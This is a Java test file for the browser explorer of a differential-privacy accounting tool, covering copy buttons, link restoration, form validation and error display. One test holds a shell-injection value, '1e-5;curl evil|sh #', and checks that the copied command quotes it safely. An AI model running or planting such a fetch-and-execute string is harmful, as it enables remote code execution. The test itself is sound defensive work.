package io.sordino.server;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What is typed, clicked, linked and copied in the explorer. */
class PageFormsTest extends Rooms {
    /** A link is anybody's: what it puts into a field is a word for the shell, never a command. */
    @Test
    void copiedCommandsQuoteEveryField() {
        explorer("{\"plans\": [\"gaussian(2)\"], \"delta\": \"1e-5;curl evil|sh #\"}");
        browser().await("document.querySelector('#delta-problem').textContent");
        browser().click("#copy-command");
        browser().await("document.querySelector('#toast').textContent");
        assertThat(copied()).contains("--delta '1e-5;curl evil|sh #'");
        explorer("{\"plans\": [\"gaussian(2)\"], \"delta\": \"1e-5\"}");
        browser().await(ANSWERED);
        browser().click("#copy-command");
        browser().await("document.querySelector('#toast').textContent");
        assertThat(copied()).as("control").endsWith("./sordino epsilon 'gaussian(2)' --delta 1e-5");
    }

    @Test
    void aCopyThatFailsIsSaidToHaveFailed() {
        explorer("{}");
        browser().await(ANSWERED);
        browser().value("navigator.clipboard.writeText = () => Promise.reject(new Error('no')), 1");
        browser().click("#copy-command");
        browser().await("document.querySelector('#toast').textContent");
        assertThat(text("#toast")).contains("did not let the page copy", "./sordino epsilon");
    }

    @Test
    void aDeltaThatNoDoubleHoldsIsNotZero() {
        explorer("{\"plans\": [\"gaussian(2)\"], \"delta\": \"1e-400\"}");
        browser().await("document.querySelector('#delta-problem').textContent");
        assertThat(text("#delta-problem")).contains("smaller than a double can hold");
        explorer("{\"plans\": [\"laplace(2)\"], \"delta\": \"0\"}");
        browser().await(ANSWERED);
        assertThat(text("#answers .big")).as("control").contains("0.5");
    }

    @Test
    void errorsShowAtTheRightCharacter() {
        explorer("{}");
        browser().await(ANSWERED);
        browser().fill("#plan-0", "500 * laplce(20)");
        browser().await("document.querySelector('#problem-0 pre')");
        assertThat(text("#problem-0 mark")).isEqualTo("l");
        assertThat(text("#problem-0 pre").lines().toList()).containsExactly("500 * laplce(20)", "      ^");
        assertThat(text("#problem-0")).contains("unknown plan 'laplce'", "did you mean laplace?");
        assertThat(browser()
                        .value("document.querySelector('#plan-0').getAttribute('aria-invalid')")
                        .asText())
                .isEqualTo("true");
        browser().fill("#plan-0", "500 * laplace(20)");
        browser().await("!document.querySelector('#problem-0').textContent && document.querySelector('#answers .big')");
        assertThat(text("#answers .big")).startsWith("\u03b5 = 4.9");
        browser().fill("#delta", "2");
        browser().await("document.querySelector('#delta-problem').textContent");
        assertThat(text("#delta-problem")).contains("delta must be in [0, 1)");
    }

    @Test
    void slidersFormsAndSchemesWriteThePlan() {
        explorer("{}");
        browser().await(ANSWERED);
        browser().fill("#number-2", "2");
        browser().await("document.querySelector('#plan-0').value === '3516 * poisson(256/60000, gaussian(2))'");
        browser().fill("#form-kind", "shuffled");
        browser().await("document.querySelector('#plan-0').value === 'shuffled(10000, randomized_response(3))'");
        browser().fill("#form-n", "2000");
        browser().await("document.querySelector('#answers').textContent.includes('shuffled(2000')");
        Map<String, String> answered = Map.of(
                "sgd", "poisson(", "allocation", "allocated(1, 235", "convex", "last_iterate(", "query", "laplace(20)");
        answered.forEach((kind, part) -> {
            browser().fill("#form-kind", kind);
            browser().await(ANSWERED + " && document.querySelector('#answers').textContent.includes('" + part + "')");
            assertThat(text("#problem-0")).isEmpty();
            assertThat(text("#answers .big")).matches("\u03b5 [=\u2264] [\\d.]+");
        });
        browser().fill("#form-kind", "query");
        browser().fill("#form-scale", "twenty");
        assertThat(text("#form-problem")).isEqualTo("noise multiplier must be a number, such as 20");
        browser().await("document.querySelector('#schemes button')");
        browser().click("#schemes button");
        browser().await("document.querySelectorAll('#plans textarea').length === 2");
        browser().await(ANSWERED);
    }

    @Test
    void brokenLinksOpenTheRoomAllTheSame() {
        explorer(
                "{\"plans\": [3, null], \"form\": {\"n\": 5}, \"training\": {\"n\": [1], \"b\": null}, \"tab\": \"no\", \"active\": 9}");
        browser().await("document.querySelector('#problem-0').textContent");
        browser().fill("#plan-0", "gaussian(2)");
        browser().await(ANSWERED);
        browser().open(url() + "#s=%7Bnonsense");
        browser().await(ANSWERED);
        explorer(
                "{\"plans\": null, \"form\": null, \"training\": [], \"kind\": \"constructor\", \"width\": \"x\", \"relation\": \"y\"}");
        browser().await(ANSWERED);
    }

    @Test
    void linkRestoresEverything() {
        explorer("{}");
        browser().await(ANSWERED);
        browser().fill("#plan-0", "3 * gaussian(4)");
        browser().click("#add");
        browser().fill("#plan-1", "7 * laplace(9)");
        browser().fill("#delta", "1/70000");
        browser().fill("#relation", "replace-one");
        browser().fill("#training-n", "5000");
        browser().click("#tab-loss");
        browser().await(ANSWERED);
        String before = browser().value("location.href").asText();
        String answers = text("#answers");
        browser().open(before);
        browser().await(ANSWERED);
        assertThat(text("#answers")).isEqualTo(answers);
        assertThat(browser()
                        .value("[...document.querySelectorAll('#plans textarea')].map(e => e.value).join()")
                        .asText())
                .isEqualTo("3 * gaussian(4),7 * laplace(9)");
        assertThat(browser().value("document.querySelector('#delta').value").asText())
                .isEqualTo("1/70000");
        assertThat(browser().value("document.querySelector('#relation').value").asText())
                .isEqualTo("replace-one");
        assertThat(browser()
                        .value("document.querySelector('#training-n').value")
                        .asText())
                .isEqualTo("5000");
        assertThat(browser()
                        .value("document.querySelector('#tab-loss').getAttribute('aria-selected')")
                        .asText())
                .isEqualTo("true");
        assertThat(browser().value("location.href").asText()).isEqualTo(before);
    }

    @Test
    void copiesAreTheCommandTheJavaAndTheEvent() {
        explorer("{\"plans\": [\"3 * gaussian(4)\"], \"relation\": \"replace-one\"}");
        browser().await(ANSWERED);
        // a browser without a window lets nobody copy
        browser().value("navigator.clipboard.writeText = () => Promise.resolve(), 1");
        browser().click("#copy-command");
        browser().await("document.querySelector('#toast').dataset.copied");
        assertThat(browser()
                        .value("document.querySelector('#toast').dataset.copied")
                        .asText())
                .isEqualTo("./sordino epsilon '3 * gaussian(4)' --delta 1e-5 --relation replace-one");
        browser().click("#copy-java");
        browser().await("document.querySelector('#toast').dataset.copied.includes('Privacy')");
        assertThat(browser()
                        .value("document.querySelector('#toast').dataset.copied")
                        .asText())
                .contains("Privacy.of(\"3 * gaussian(4)\").under(Relation.REPLACE_ONE).within(0.001).epsilon(0.00001)");
        browser().click("#copy-json");
        browser().await("document.querySelector('#toast').dataset.copied.includes('SelfComposedDpEvent')");
    }

    /** A row of the comparison and what it puts among the plans are the same question. */
    @ParameterizedTest
    @ValueSource(strings = {"no amplification, replace-one", "sampling without replacement, replace-one"})
    void rowsOfTheComparisonAreTakenOverWithTheirNeighbours(String row) {
        explorer("{}");
        browser().await(ANSWERED + " && document.querySelector('#schemes button')");
        String button = "document.querySelector('#schemes [aria-label=\"Use the plan: " + row + "\"]')";
        double promised = browser()
                .value("Number(" + button + ".closest('tr').querySelector('.number').textContent)")
                .asDouble();
        browser().value(button + ".click()");
        browser().await("document.querySelector('.answer.c1 .big') && !document.querySelector('.stale')");
        assertThat(text(".answer.c1")).contains("replace-one");
        double shown = browser()
                .value("Number(document.querySelector('.answer.c1 .big').textContent.slice(4))")
                .asDouble();
        assertThat(shown).isBetween(promised * 0.998, promised * 1.0001);
        assertThat(browser()
                        .value("document.querySelectorAll('#schemes button').length")
                        .asInt())
                .isGreaterThan(6);
    }

    @Test
    void formsRefuseWhatTheyCannotMean() {
        explorer("{}");
        browser().await(ANSWERED);
        browser().fill("#form-epochs", "0");
        assertThat(text("#form-problem")).isEqualTo("epochs must be a number above 0, such as 15");
        browser().fill("#form-kind", "shuffled");
        browser().fill("#form-k", "1");
        browser().await("document.querySelector('#problem-0').textContent");
        assertThat(browser().value("document.querySelector('#plan-0').value").asText())
                .isEqualTo("shuffled(10000, randomized_response(3, k=1))");
        browser().fill("#training-n", "many");
        browser().await("document.querySelector('#schemes').textContent === 'records must be a number, such as 60000'");
    }
}
